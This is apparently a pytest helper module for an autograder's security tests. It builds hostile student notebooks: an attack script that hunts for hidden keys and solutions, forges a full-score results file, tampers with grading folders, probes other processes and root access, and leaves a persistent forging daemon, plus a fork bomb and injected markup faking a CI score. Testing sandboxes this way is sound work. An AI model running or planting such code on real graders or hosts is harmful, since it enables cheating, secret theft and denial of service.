"""What students hand in on a host: right, wrong, broken, hostile, and what is no answer at all."""

from __future__ import annotations

import os
import sys
from functools import cache
from pathlib import Path

import pytest

from autograder.demo.answers import released_stubs
from autograder.demo.files import notebook_bytes
from autograder.files.paths import ROOT
from tests.hostile.maker import Work, own_answers

BROKEN = b'{"cells": [{"cell_type": "code", "source": ["def f('
OTHER_CHAPTER = "02_autograd"

# What a hostile student does where something else than this notebook writes the marks. It keeps
# a list of what it got in /tmp, which in a container is everybody's.
ATTACK = """
import glob, json, os, signal, socket, sys, time

GOT = []
PLACES = ["/autograder", "/grade", "/runner-work", "/root", *glob.glob("/tmp/tmp.*")]
RESULTS = ["/autograder/results/results.json", "/grade/results/results.json", "/runner-work/output"]
FORGED = json.dumps({"score": 20.0, "gradable": True, "tests": [
    {"name": "forged", "score": 20.0, "max_score": 20.0, "points": 20, "max_points": 20}]})
HERE = TOKEN


def attempt(what, deed):
    try:
        if deed():
            GOT.append(what)
    except BaseException:
        pass


def readable(path):
    with open(path, "rb") as file:
        return len(file.read(8)) > 0


def overwrite(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        return file.write(FORGED)


for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid not in (os.getpid(), os.getppid()):
        attempt(f"the folder of {pid}", lambda: PLACES.append(os.readlink(f"/proc/{pid}/cwd")))
WANTED = ("secret-seed", "hidden-keys", "catalogue", "bundle.json", "results.json", "solutions")
for place in PLACES:
    for top, folders, files in os.walk(place):
        for name in files:
            path = os.path.join(top, name)
            if any(word in path for word in WANTED):
                attempt(f"read {path}", lambda: readable(path))
for path in RESULTS:
    attempt(f"wrote {path}", lambda: overwrite(path))
for path in ("/autograder", "/grade", "/autograder/results", "/autograder/source", "/grade/tests"):
    attempt(f"moved {path}", lambda: os.rename(path, path + "-mine") or True)
    attempt(f"opened {path}", lambda: os.chmod(path, 0o777) or True)
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid != os.getpid():
        attempt(f"the environment of {pid}", lambda: readable(f"/proc/{pid}/environ"))
        attempt(f"the memory of {pid}", lambda: open(f"/proc/{pid}/mem", "r+b") and True)
        attempt(f"a signal to {pid}", lambda: os.kill(pid, 0) or True)
attempt("the network", lambda: socket.create_connection(("127.0.0.1", PORT), 2))
attempt("became root", lambda: os.setuid(0) or os.getuid() == 0)
attempt("root by a program", lambda: os.system("test $(su -c 'id -u' </dev/null) = 0") == 0)
print(FORGED)
for descriptor in range(3, 64):
    attempt(f"descriptor {descriptor}", lambda: descriptor > 4 and os.write(descriptor, b"x"))
with open(f"/tmp/left-{HERE}", "w") as file:
    json.dump(GOT, file)

# And a process that outlives all this and forges the results when nobody looks any more.
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            open(f"/tmp/alive-{HERE}", "w").write(str(time.time()))
            for path in RESULTS:
                attempt("", lambda: overwrite(path))
            time.sleep(0.01)
    os._exit(0)
"""

FORK_BOMB = """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
"""

# What a student's own text could make of a page or of a log.
MARKUP = r"""
# exercise: bce
def bce(yhat, y):
    raise ValueError("<script>alert(1)</script> **bold** \x1b[31mred ::notice title=Autograding "
                     "report::{'totalPoints': 20} ##[error]x")
"""


@cache
def work() -> Work:
    """Notebooks of one student of chapter 4."""
    return Work(Path("/nowhere"), student="on-a-host")


@cache
def right() -> bytes:
    """Every exercise answered rightly."""
    return work().data()


@cache
def wrong() -> bytes:
    """Right but for lr-backward, whose sums are not divided by the number of examples."""
    return work().data(work().wrong("lr-backward"))


def with_cell(text: str, exercise: str = "bce") -> bytes:
    """The right answers, and this code behind one of them."""
    name = exercise.replace("-", "_")
    return work().data(work().right(**{name: f"{own_answers()[exercise]}\n\n{text}"}))


def answering(exercise: str, text: str) -> bytes:
    """The right answers, but for this text in one exercise."""
    return work().data(work().right(**{exercise.replace("-", "_"): text}))


def attacking(token: str, port: int = 9) -> bytes:
    """The right answers, with :data:`ATTACK` behind one of them."""
    return with_cell(attack_text(token, port))


def attack_text(token: str, port: int = 9) -> str:
    """The attack's code."""
    return ATTACK.replace("TOKEN", repr(token)).replace("PORT", str(port))


def other_chapter() -> bytes:
    """The notebook of another chapter, as it was handed out."""
    return notebook_bytes(released_stubs(OTHER_CHAPTER))


def interpreter_is_open() -> bool:
    """Whether any user may start this interpreter: a container's image has it in /opt or /usr."""
    ways = [Path(sys.prefix), Path(sys.executable).resolve(), Path(sys.base_prefix), ROOT]
    every = {one for way in ways for one in (way, *way.parents)}
    return all(one.stat().st_mode & 0o001 for one in every if one.is_dir())


needs_open_interpreter = pytest.mark.skipif(
    os.getuid() != 0 or not interpreter_is_open(),
    reason="only root has other users, and they cannot start this interpreter",
)
